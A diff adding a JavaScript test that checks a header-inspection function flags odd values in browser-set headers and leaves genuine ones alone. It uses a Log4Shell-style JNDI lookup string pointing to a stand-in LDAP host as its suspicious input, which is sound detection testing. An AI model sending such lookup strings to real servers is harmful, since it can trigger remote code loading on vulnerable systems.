@@ -29,6 +29,15 @@ describe('headers', () => {
       ['user-agent=b', 'x-any=c, d'],
     );
   });
+  it('tells what no machinery writes, in headers that are left to it too', () => {
+    const lookup = '${jndi:ldap://a.example/x}';
+    const names = ['sec-ch-ua', 'sec-any', 'if-none-match', 'if-range', 'dnt', 'date', 'priority', 'accept-encoding'];
+    for (const name of names) assert.deepEqual(tell({ [name]: lookup }), [`${name}=${lookup}`]);
+    assert.deepEqual(tell({ 'sec-any': 'word' }), ['sec-any=word']);
+    const brands = '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"';
+    const honest = { 'sec-ch-ua': brands, 'sec-ch-ua-platform': '"macOS"', 'if-none-match': 'W/"5f-18c,+/=", *' };
+    assert.deepEqual(tell({ ...honest, 'sec-gpc': '1', date: 'Tue, 15 Nov 1994 08:12:31 GMT' }), []);
+  });
   it('tells nothing twice that HTTP/2 writes among the headers', () => {
     assert.deepEqual(tell({ ':method': 'GET', ':path': '/a?q=1', ':authority': 'a', ':scheme': 'https', 'x-a': 'b' }), [
       'x-a=b',
